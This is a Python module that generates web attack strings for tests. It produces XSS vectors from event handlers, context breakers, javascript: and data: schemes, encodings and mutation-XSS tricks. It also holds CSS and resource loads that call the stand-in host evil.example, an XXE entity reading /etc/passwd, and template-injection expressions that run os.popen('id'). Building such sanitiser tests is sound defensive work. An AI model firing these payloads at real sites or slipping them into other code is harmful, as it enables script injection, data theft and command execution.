"""Texts that try to become markup, script, style or template of a page. For tests."""

from __future__ import annotations

from itertools import product

EVIL = "https://evil.example"
_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
    "onwheel",
    "onpageshow",
    "onscroll",
    "oncanplay",
    "oninput",
    "onresize",
]
_TAGS = [
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe",
    "input autofocus",
    "marquee",
    "select autofocus",
    "object data=x",
    "p style=animation-name:x tabindex=1",
]
_BREAKERS = [
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</option></select>",
    "</noscript>",
    '\\"',
    "`>",
    "</td></tr></table>",
    '\u2028">',
]
_BODIES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    " onfocus=alert(1) autofocus x=",
    f"<img src={EVIL}/b.png>",
    "<iframe srcdoc=&lt;script&gt;alert(1)>",
]
_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#10;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "\\x6aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:x",
    "//evil.example/x.js",
]
_CARRIERS = [
    "{}",
    "<a href='{}'>x</a>",
    "<iframe src='{}'>",
    "<form action='{}'><button>x</form>",
    "<object data='{}'>",
    "<embed src='{}'>",
    "<script src='{}'></script>",
]
_ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script >alert(1)</script >",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<plaintext>",
    "<xmp>",
    "<noscript>",
    "<template><script>alert(1)</script></template>",
]
_STYLES = [
    f"<style>*{{background:url({EVIL}/s)}}</style>",
    f"<link rel=stylesheet href={EVIL}/l.css>",
    f"<style>@import '{EVIL}/i.css';</style>",
    f"<p style=background:url({EVIL}/p)>x</p>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    f"}} body {{ background: url({EVIL}/q)",
    f"<div style='position:fixed;inset:0;background:url({EVIL})'>",
]
_FOREIGN = [
    f"<img src={EVIL}/1.png>",
    f"<img srcset='{EVIL}/2.png 1x'>",
    f"<link rel=prefetch href={EVIL}/3>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/4'>",
    f"<base href={EVIL}/5/>",
    f"<form id=f action={EVIL}/6></form><button form=f>x</button>",
    f"<video poster={EVIL}/7>",
    f"<iframe src={EVIL}/8></iframe>",
    f"<script src={EVIL}/9.js></script>",
    f"<object data={EVIL}/a>",
    f"<svg><image href={EVIL}/c /></svg>",
    f"<input type=image src={EVIL}/d>",
    f"<audio src={EVIL}/e autoplay>",
    f"<link rel=icon href={EVIL}/f>",
    f"<table background={EVIL}/g>",
]
_MUTATIONS = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a href=javascript:alert(1)><text>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><foreignObject><iframe onload=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<a id=__xss><a id=__xss name=x>",
    "<form name=document><img name=cookie>",
]
_OPENERS = [
    ("{{", "}}"),
    ("${", "}"),
    ("#{", "}"),
    ("<%= ", " %>"),
    ("{% print(", ") %}"),
    ("@(", ")"),
    ("[[", "]]"),
    ("*{", "}"),
    ("{{{", "}}}"),
    ("$${", "}"),
    ("~{", "}"),
    ("{", "}"),
]
_EXPRESSIONS = [
    "7*7",
    "731*917",
    "config",
    "self.__init__.__globals__",
    "''.__class__.__mro__",
    "cycler.__init__.__globals__.os.popen('id').read()",
    "constructor.constructor('alert(1)')()",
    "request.application",
]
PRODUCTS = ("T49T", "670327")  # what a template engine would make of them

# Whoever runs `alert(1)` or asks EVIL has won; a template has where one of PRODUCTS stands on a page.
MARKUP = list(
    dict.fromkeys(
        [
            *(f"<{tag} {event}=alert(1)>" for tag, event in product(_TAGS, _EVENTS)),
            *(breaker + body for breaker, body in product(_BREAKERS, _BODIES)),
            *(carrier.format(scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES)),
            *_ENTITIES,
            *_STYLES,
            *_FOREIGN,
            *_MUTATIONS,
            *(f"T{start}{inner}{end}T" for (start, end), inner in product(_OPENERS, _EXPRESSIONS)),
        ]
    )
)
